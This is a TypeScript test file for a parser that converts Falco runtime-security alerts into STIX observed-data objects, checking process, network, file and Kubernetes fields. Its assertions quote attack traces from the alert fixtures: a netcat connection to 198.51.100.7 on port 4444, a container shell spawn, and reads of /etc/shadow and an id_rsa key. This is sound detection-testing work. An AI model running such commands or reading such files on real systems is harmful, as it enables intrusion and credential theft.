import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { StixObject } from '../../src/contracts.js';
import {
  createObserver,
  FALCO_EXTENSION_ID,
  isSkip,
  KUBERNETES_EXTENSION_ID,
} from '../../src/observe/index.js';
import { deref, fixtureLines, objectsOfType, observeText, subject } from './fixtures.js';

const upstream = fixtureLines('upstream/falco-kubescape-samples.jsonl');
const ours = fixtureLines('falco.jsonl');

function line(lines: string[], index: number): string {
  const text = lines[index];
  assert.ok(text !== undefined);
  return text;
}

function falco(object: StixObject): Record<string, unknown> {
  const extensions = object.extensions as Record<string, Record<string, unknown>>;
  const found = extensions[FALCO_EXTENSION_ID];
  assert.ok(found !== undefined);
  return found;
}

test('the Falco docs alert: rule, priority, exact evt.time, process and pod', () => {
  const observation = observeText(line(upstream, 0));
  assert.equal(observation.sensor, 'falco');
  assert.equal(observation.observedData.first_observed, '2023-05-25T13:44:05.478445995Z');
  const process = subject(observation);
  assert.equal(process.command_line, 'sh -c clear; (bash || ash || sh)');
  assert.equal(deref(observation, process.image_ref).name, 'sh');
  assert.equal(deref(observation, process.creator_user_ref).account_login, 'root');
  const alert = falco(process);
  assert.equal(alert.rule, 'Terminal shell in container');
  assert.equal(alert.priority, 'Critical');
  assert.deepEqual(alert.tags, ['container', 'mitre_execution', 'shell']);
  const fields = alert.output_fields as Record<string, unknown>;
  assert.equal(fields['evt.time'], '1685022245478445995');
  assert.equal(fields['proc.tty'], 34816);
  assert.deepEqual(observation.context, { node: 'falco-xczjd', namespace: 'default', pod: 'kubecon' });
  const parent = deref(observation, process.parent_ref);
  assert.equal(parent.command_line, 'runc');
});

test('a connection alert: client is src, server is dst; the executable path leads the command line', () => {
  const observation = observeText(line(ours, 0));
  const process = subject(observation);
  assert.equal(process.command_line, '/usr/bin/nc 198.51.100.7 4444');
  assert.equal(process.cwd, '/home/admin/');
  assert.equal(deref(observation, process.creator_user_ref).user_id, '1000');
  const parent = deref(observation, process.parent_ref);
  assert.equal(parent.pid, 519);
  assert.equal(parent.command_line, '/bin/bash');
  const [traffic] = objectsOfType(observation, 'network-traffic');
  assert.ok(traffic !== undefined);
  assert.equal(deref(observation, traffic.src_ref).value, '10.244.1.17');
  assert.equal(deref(observation, traffic.dst_ref).value, '198.51.100.7');
  assert.equal(traffic.dst_port, 4444);
  assert.deepEqual(traffic.protocols, ['ipv4', 'tcp']);
  const kubernetes = (process.extensions as Record<string, Record<string, unknown>>)[KUBERNETES_EXTENSION_ID];
  assert.equal(kubernetes?.image_name, 'docker.io/entlein/ssh-proxy:0.0.3');
});

test('file alerts name their files: the file descriptor and both ends of a symlink', () => {
  const read = observeText(line(ours, 1));
  const shadow = objectsOfType(read, 'file').find((file) => file.name === 'shadow');
  assert.ok(shadow !== undefined);
  assert.equal(deref(read, shadow.parent_directory_ref).path, '/etc');
  const symlink = observeText(line(ours, 2));
  const names = objectsOfType(symlink, 'file').map((file) => file.name);
  assert.ok(names.includes('id_rsa') && names.includes('0.log'), names.join());
});

test('an alert without process fields (k8s_audit source) is unsupported', () => {
  const result = createObserver().observe({ text: line(ours, 3), origin: { source: 'test' } });
  assert.ok(isSkip(result));
  assert.equal(result.reason, 'unsupported-event');
});

test('without a time string, the time comes exactly from evt.time nanoseconds', () => {
  const observation = observeText(line(ours, 4));
  assert.equal(observation.observedData.first_observed, '2025-06-02T09:14:30.999999999Z');
  assert.equal(observation.time, Date.parse('2025-06-02T09:14:30.999Z') + 0.999999);
});

test('the alert process refers to its connection and files', () => {
  const observation = observeText(line(ours, 0));
  const [traffic] = objectsOfType(observation, 'network-traffic');
  assert.deepEqual(subject(observation).opened_connection_refs, [traffic?.id]);
  const symlink = observeText(line(ours, 2));
  const refs = falco(subject(symlink)).file_refs as string[];
  assert.deepEqual(
    refs.map((ref) => deref(symlink, ref).name),
    ['0.log', 'id_rsa'],
  );
});
